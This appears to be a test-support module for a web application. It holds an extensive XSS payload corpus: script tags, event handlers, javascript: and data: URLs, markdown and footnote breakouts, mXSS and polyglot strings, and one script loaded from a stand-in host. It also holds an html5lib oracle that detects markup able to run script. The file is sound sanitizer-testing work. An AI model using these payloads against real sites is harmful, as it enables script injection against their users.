"""The XSS payload corpus and the oracle that judges markup as a browser would parse it (R15).

Used by the XSS tests (test_xss*.py), every other test that puts the corpus through a page, and
the browser's hostile site (tests/browser/hostile_site.py), which makes the payloads live.
"""

import json
import re

import html5lib
import pytest

P = pytest.param


B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
CORPUS = [
    # Raw tags
    P("<script>alert(1)</script>", id="script"),
    P("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", id="script-src-upper"),
    P('<iframe src="javascript:alert(1)"></iframe>', id="iframe-js"),
    P('<iframe srcdoc="<script>alert(1)</script>"></iframe>', id="iframe-srcdoc"),
    P('<object data="javascript:alert(1)"></object>', id="object"),
    P(f'<embed src="data:text/html;base64,{B64_SCRIPT}">', id="embed-data"),
    P('<form action="javascript:alert(1)"><button>go</button></form>', id="form-action"),
    P('<base href="javascript:alert(1)//">', id="base"),
    P('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', id="meta-refresh"),
    P("<svg><script>alert(1)</script></svg>", id="svg-script"),
    P("<svg/onload=alert(1)>", id="svg-onload"),
    P('<math href="javascript:alert(1)">x</math>', id="math-href"),
    P("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", id="math-mxss"),
    P("<style>@import 'javascript:alert(1)';</style>", id="style"),
    P('<link rel="stylesheet" href="javascript:alert(1)">', id="link"),
    P("<template><script>alert(1)</script></template>", id="template"),
    # Event handlers, broken and unquoted attributes
    P("<img src=x onerror=alert(1)>", id="img-onerror"),
    P("<body onload=alert(1)>", id="body-onload"),
    P('<a href="https://ok.example" onmouseover="alert(1)">x</a>', id="a-onmouseover"),
    P("<p onclick=alert(1)>x</p>", id="p-onclick"),
    P("<details open ontoggle=alert(1)>", id="details-ontoggle"),
    P("<video><source onerror=alert(1)></video>", id="video-source"),
    P("<input autofocus onfocus=alert(1)>", id="input-onfocus"),
    P("<marquee onstart=alert(1)>x</marquee>", id="marquee"),
    P('<img src=x onerror="alert(1)"//', id="img-unclosed"),
    P('<img """><script>alert(1)</script>">', id="img-broken-quotes"),
    P("<img src=`x`onerror=alert(1)>", id="img-backticks"),
    P("<a/href=x/onclick=alert(1)>x</a>", id="a-slashes"),
    P("<img src=x:alert(alt) onerror=eval(src) alt=0>", id="img-eval-src"),
    P('<div style="background:url(javascript:alert(1))">x</div>', id="style-attr"),
    P('<table background="javascript:alert(1)"><tr><td>x</td></tr></table>', id="background"),
    P('<blockquote cite="javascript:alert(1)" onmouseover=alert(1)>x</blockquote>', id="cite"),
    P("<isindex type=image src=1 onerror=alert(1)>", id="isindex"),
    # URL schemes
    P("[x](javascript:alert(1))", id="md-js"),
    P("[x](JaVaScRiPt:alert(1))", id="md-js-mixed-case"),
    P("[x]( javascript:alert(1))", id="md-js-leading-space"),
    P("[x](<javascript:alert(1)>)", id="md-js-pointy"),
    P("[x](java\tscript:alert(1))", id="md-js-tab"),
    P("[x](java&#x0A;script:alert(1))", id="md-js-entity-newline"),
    P("[x](&#106;avascript:alert(1))", id="md-js-decimal-entity"),
    P("[x](&#x6A;avascript:alert(1))", id="md-js-hex-entity"),
    P("[x](&#0000106&#0000097vascript:alert(1))", id="md-js-padded-entities"),
    P("[x](javascript&colon;alert(1))", id="md-js-colon-entity"),
    P("[x](\x01javascript:alert(1))", id="md-js-control-char"),
    P('[x](javascript:alert(1) "t")', id="md-js-with-title"),
    P("[x](vbscript:msgbox(1))", id="md-vbscript"),
    P(f"[x](data:text/html;base64,{B64_SCRIPT})", id="md-data-html"),
    P("![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", id="md-img-data-svg"),
    P("![x](data:image/png;base64,iVBORw0KGgo=)", id="md-img-data-png"),
    P('<a href="&#x20;javascript:alert(1)">x</a>', id="raw-js-space-entity"),
    P('<a href="jav&#x09;ascript:alert(1)">x</a>', id="raw-js-tab-entity"),
    P('<a href="javascript&colon;alert(1)">x</a>', id="raw-js-colon-entity"),
    # Markdown forms
    P("![x](javascript:alert(1))", id="md-img-js"),
    P("[x][r]\n\n[r]: javascript:alert(1)", id="md-ref-link-js"),
    P("![x][r]\n\n[r]: javascript:alert(1)", id="md-ref-img-js"),
    P("[x][r]\n\n[r]: &#106;avascript:alert(1)", id="md-ref-entity"),
    P('[x][r]\n\n[r]: https://ok.example "t" onclick=alert(1)', id="md-ref-trailing-attr"),
    P("<javascript:alert(1)>", id="autolink-js"),
    P("<vbscript:msgbox(1)>", id="autolink-vbscript"),
    P("<data:text/html,<script>alert(1)</script>>", id="autolink-data"),
    P('<x@example.org?subject="onclick=alert(1)>', id="autolink-email-quote"),
    P('[x](https://ok.example "a\\" onmouseover=\\"alert(1)")', id="title-double-quote"),
    P("[x](https://ok.example 'a\\' onclick=alert(1) x=\\'')", id="title-single-quote"),
    P('![x](https://ok.example/i.png "\\" onerror=\\"alert(1)")', id="img-title-quote"),
    P('[x](https://ok.example){: onclick="alert(1)" style="color:red"}', id="attr-list-link"),
    P("A paragraph.\n{: onmouseover=alert(1) style=x }", id="attr-list-block"),
    P("# Heading {: onclick=alert(1) #id .cls }", id="attr-list-heading"),
    P('<div markdown="1" onclick="alert(1)">*x*</div>', id="md-in-html-div"),
    P('<span markdown="1" style="x">[y](javascript:alert(1))</span>', id="md-in-html-span"),
    P("[<img src=x onerror=alert(1)>](https://ok.example)", id="link-text-html"),
    P('["><script>alert(1)</script>](https://ok.example)', id="link-text-breakout"),
    P('[x](https://ok.example/"onmouseover="alert(1))', id="url-quote-breakout"),
    P('[x](https://ok.example/"><script>alert(1)</script>)', id="url-tag-breakout"),
    P("[[x](javascript:alert(1))](https://ok.example)", id="nested-links"),
    P("`<script>alert(1)</script>`", id="inline-code"),
    P('```"><script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```', id="fence-info"),
    P("| a |\n|---|\n| <img src=x onerror=alert(1)> |", id="table-cell"),
    P("> <iframe src=javascript:alert(1)>\n> - [x](javascript:alert(1))", id="quote-list"),
    # Footnotes: labels, notes and the links inside them
    P('A[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: n', id="fn-label-script"),
    P('A[^x"onmouseover="alert(1)]\n\n[^x"onmouseover="alert(1)]: n', id="fn-label-attr"),
    P("A[^x]\n\n[^x]: <img src=x onerror=alert(1)>", id="fn-note-img"),
    P("A[^x]\n\n[^x]: [y](javascript:alert(1)) <javascript:alert(1)>", id="fn-note-js-link"),
    P("A[^x]\n\n[^x]: [y][r]\n\n[r]: javascript:alert(1)", id="fn-note-ref-link-js"),
    P(f"A[^x]\n\n[^x]: ![i](data:image/svg+xml;base64,{B64_SCRIPT})", id="fn-note-img-data"),
    P("A[^a]\n\n[^a]: see[^b]\n[^b]: <script>alert(1)</script>", id="fn-nested"),
    P("A[^<svg/onload=alert(1)>]", id="fn-undefined-svg"),
    P("^[<img src=x onerror=alert(1)>]", id="fn-inline"),
    P('<a id="location" role="doc-noteref" href="#fn-1" onclick="alert(1)">x</a>', id="fn-raw-a"),
    P('<sup onclick=alert(1)><section onmouseover=alert(1)><li id="fn-1" style="x">', id="fn-raw"),
    # Comments, CDATA, nesting, polyglots
    P("<!--<script>alert(1)</script>-->", id="comment"),
    P("<!-- --!><script>alert(1)</script> -->", id="comment-bang-close"),
    P("<![CDATA[<script>alert(1)</script>]]>", id="cdata"),
    P("<scr<script>ipt>alert(1)</scr</script>ipt>", id="split-script"),
    P("<<script>script>alert(1)<</script>/script>", id="double-open"),
    P('<a href="https://ok.example"><a href="javascript:alert(1)">x</a></a>', id="nested-a"),
    P('<noscript><p title="</noscript><img src=x onerror=alert(1)>">', id="noscript-mxss"),
    P("<textarea></textarea><script>alert(1)</script>", id="textarea-close"),
    P("<xmp><img src=x onerror=alert(1)></xmp>", id="xmp"),
    P('"><svg/onload=alert(1)>', id="attr-breakout-svg"),
    P(
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/"
        "</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
        id="polyglot-0xsobky",
    ),
    P("'\"--></style></script><script>alert(1)</script><!--", id="polyglot-closers"),
]

# --- The oracle -------------------------------------------------------------------------------

FRAGMENT_TAGS = {"html", "head", "body", "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6"}
FRAGMENT_TAGS |= {"em", "strong", "del", "s", "code", "pre", "blockquote", "ul", "ol", "li"}
FRAGMENT_TAGS |= {"a", "img", "table", "thead", "tbody", "tr", "th", "td", "sup", "section"}
# Site chrome and claim marks on public pages; still no script, style, frames, forms or foreign XML.
PAGE_TAGS = FRAGMENT_TAGS | {"main", "header", "footer", "nav", "section", "article", "aside"}
PAGE_TAGS |= {"div", "span", "time", "sup", "mark"}
PAGE_TAGS |= {"dl", "dt", "dd", "i"}  # the cite page: each style's reference, titles in italics
PAGE_TAGS |= {"details", "summary"}  # a paper's folded correction note, contents and key
# The site's own scripts, by address under /static/js/ and with nothing inline.
OWN_SCRIPT = re.compile(r"/static/js/[a-z-]+(?:\.[0-9a-f]+)?\.js")
HEAD_TAGS = {
    "title": set(),
    "meta": {"charset", "name", "content", "property"},
    "link": {"rel", "href", "type", "title"},  # type and title: the feed's autodiscovery link
    "script": {"type"},  # JSON-LD only: see _check
}
# The site's search box (a GET form to the paper list, in the page chrome) is the one form
# allowed on public pages.
SEARCH_FORM_TAGS = {"form", "label", "input", "button"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "srcset", "poster", "background"}
URL_ATTRIBUTES |= {"cite", "data", "lowsrc", "dynsrc", "longdesc", "codebase", "ping"}
SAFE_SCHEMES = {"http", "https", "mailto"}
_SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):")


def url_scheme(value):
    """The scheme a browser would see: whitespace and control characters ignored, any case."""
    match = _SCHEME.match(re.sub(r"[\x00-\x20\x7f]+", "", value).lower())
    return match.group(1) if match else None


def local(name):
    return name.rsplit("}", 1)[-1].lower()


def violations(markup, *, page=False):
    """Everything in markup that could run script once a browser has parsed it."""
    allowed = PAGE_TAGS if page else FRAGMENT_TAGS
    root = html5lib.parse(markup, namespaceHTMLElements=False)
    search_box = set()
    if page:
        for form in root.iter("form"):
            if form.get("action") == "/papers/" and form.get("method", "get").lower() == "get":
                search_box |= {id(element) for element in form.iter()}
    problems = _check(root, None, allowed, page)
    for parent in root.iter():
        for element in parent:
            if isinstance(element.tag, str):
                chrome = allowed | SEARCH_FORM_TAGS if id(element) in search_box else allowed
                problems += _check(element, local(parent.tag), chrome, page)
    return problems


def _is_json(text):
    try:
        json.loads(text)
    except ValueError:
        return False
    return True


def _own_script(element, attrs):
    src = attrs.get("src", "")
    return set(attrs) <= {"src", "defer"} and OWN_SCRIPT.fullmatch(src) and not element.text


def _check(element, parent, allowed, page):
    tag, attrs = local(element.tag), {local(k): v for k, v in element.attrib.items()}
    namespaced = element.tag.startswith("{")
    problems = []
    if page and tag in HEAD_TAGS and parent == "head":
        problems += [f"<{tag} {name}>" for name in attrs if name not in HEAD_TAGS[tag]]
        # A data block, not a script: browsers run no type they do not know, and JSON that
        # parses is all of its text (a stray </script> would have cut it short).
        if tag == "script" and (
            attrs.get("type") != "application/ld+json" or not _is_json(element.text or "")
        ):
            problems.append("<script> that is not JSON-LD")
    elif tag == "script" and page and _own_script(element, attrs):
        pass
    elif namespaced or tag not in allowed:
        problems.append(f"<{tag}> element")
    for name, value in attrs.items():
        if name.startswith("on") or name in {"style", "srcdoc", "formaction"}:
            problems.append(f"<{tag} {name}>")
        if name in URL_ATTRIBUTES and url_scheme(value) not in {None, *SAFE_SCHEMES}:
            problems.append(f"<{tag} {name}={value!r}>")
    return problems
